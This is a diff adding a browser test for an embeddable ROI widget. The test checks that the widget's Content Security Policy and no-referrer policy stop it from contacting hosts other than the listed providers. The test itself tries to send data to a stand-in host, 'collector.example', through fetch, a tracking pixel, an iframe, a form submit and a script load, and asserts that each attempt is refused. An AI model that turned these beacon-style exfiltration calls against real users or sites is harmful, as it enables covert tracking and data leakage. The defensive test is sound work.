@@ -63,6 +63,62 @@ it('is kept from hosts without encryption and from inline script by its policy',
   expect(visit.problems).toEqual([])
 })
 
+it('V1, V3: the policy of an embed lets it read from the listed providers alone, and tell them nothing of itself', async () => {
+  const policy = await fetch(`${site.origin}/embed/roi/`)
+  expect(policy.headers.get('referrer-policy')).toBe('no-referrer')
+  const asked: string[] = []
+  const embed = await site.visit('embed/roi/?v=1&ds=2611&kwh=0.05&live=1', {
+    providers: (url) => {
+      asked.push(url.origin)
+      return worldProviders()(url)
+    },
+    clock: WORLD_CLOCK,
+    expectedProblems: [/Content Security Policy/],
+  })
+  const sent: { readonly referrer: string; readonly url: string }[] = []
+  embed.page.on('request', (request) =>
+    sent.push({ referrer: request.headers()['referer'] ?? '', url: request.url() }),
+  )
+  await settledResult(embed.page)
+  const listed = PROVIDER_HOSTS[0] ?? ''
+  const refused = await embed.page.evaluate(async (provider) => {
+    const violations: string[] = []
+    document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective))
+    const reached = async (address: string): Promise<boolean> =>
+      fetch(address).then(
+        () => true,
+        () => false,
+      )
+    const collector = await reached('https://collector.example/?who=reader')
+    const known = await reached(`${provider}/`)
+    const image = new Image()
+    image.src = 'https://collector.example/pixel.png'
+    const frame = document.createElement('iframe')
+    frame.src = 'https://collector.example/frame'
+    const form = document.createElement('form')
+    form.action = 'https://collector.example/form'
+    document.body.append(image, frame, form)
+    form.submit()
+    const script = document.createElement('script')
+    script.src = 'https://collector.example/script.js'
+    document.body.append(script)
+    await new Promise((resolve) => setTimeout(resolve, 200))
+    return { collector, known, violations }
+  }, listed)
+  expect(refused.collector).toBe(false)
+  expect(refused.violations).toEqual(
+    expect.arrayContaining(['connect-src', 'img-src', 'frame-src', 'form-action', 'script-src-elem']),
+  )
+  expect(asked).toContain(listed)
+  expect(asked.filter((origin) => !PROVIDER_HOSTS.includes(origin))).toEqual([])
+  for (const { referrer, url } of sent) {
+    expect(referrer, url).toBe('')
+    if (!url.startsWith(site.origin)) expect(url).not.toMatch(/kwh|2611/)
+  }
+  expect(embed.problems).toEqual([])
+  await embed.close()
+})
+
 it('lists every provider on the status page', async () => {
   const status = await site.visit('./status/', { providers: worldProviders(), clock: WORLD_CLOCK })
   await status.page.getByRole('heading', { level: 1 }).waitFor()
